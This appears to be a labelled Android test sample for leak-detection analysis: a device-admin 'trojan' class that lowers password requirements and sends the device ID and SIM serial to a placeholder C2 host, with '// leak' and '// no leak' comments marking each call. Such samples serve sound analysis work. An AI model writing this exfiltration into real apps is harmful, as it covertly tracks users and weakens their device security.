package trojans;

import android.app.admin.DeviceAdminReceiver;
import android.app.admin.DevicePolicyManager;
import android.content.ComponentName;
import android.content.Context;
import android.content.Intent;
import android.os.Build;
import android.os.PersistableBundle;
import android.os.UserHandle;
import android.telephony.TelephonyManager;
import java.net.HttpURLConnection;
import java.net.URL;

/** An administrator of the device who tells its server when things change. */
public class Admin extends DeviceAdminReceiver {
    private static String last = "";

    @Override
    public void onEnabled(Context context, Intent intent) {
        DevicePolicyManager policy = (DevicePolicyManager) context.getSystemService(Context.DEVICE_POLICY_SERVICE);
        ComponentName me = getWho(context);
        policy.setPasswordQuality(me, DevicePolicyManager.PASSWORD_QUALITY_UNSPECIFIED);
        TelephonyManager phone = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
        tell("/enabled", phone.getDeviceId());
        last = phone.getSimSerialNumber();
    }

    @Override
    public CharSequence onDisableRequested(Context context, Intent intent) {
        told("/asked", last);
        return "Are you sure?";
    }

    @Override
    public void onPasswordChanged(Context context, Intent intent, UserHandle user) {
        said("/changed", Integer.toString(Build.VERSION.SDK_INT));
    }

    private void tell(String path, String what) {
        new Thread(() -> {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("http://c2.example.invalid" + path).openConnection();
                c.setRequestProperty("X-Id", what); // leak
                c.getInputStream().close();
            } catch (Exception e) {
                last = "";
            }
        }).start();
    }

    private void told(String path, String what) {
        new Thread(() -> {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("http://c2.example.invalid" + path + "/" + what).openConnection(); // leak
                c.getResponseCode();
            } catch (Exception e) {
                last = "";
            }
        }).start();
    }

    private void said(String path, String what) {
        new Thread(() -> {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("http://c2.example.invalid" + path + "/" + what).openConnection(); // no leak
                c.getResponseCode();
            } catch (Exception e) {
                last = "";
            }
        }).start();
    }
}
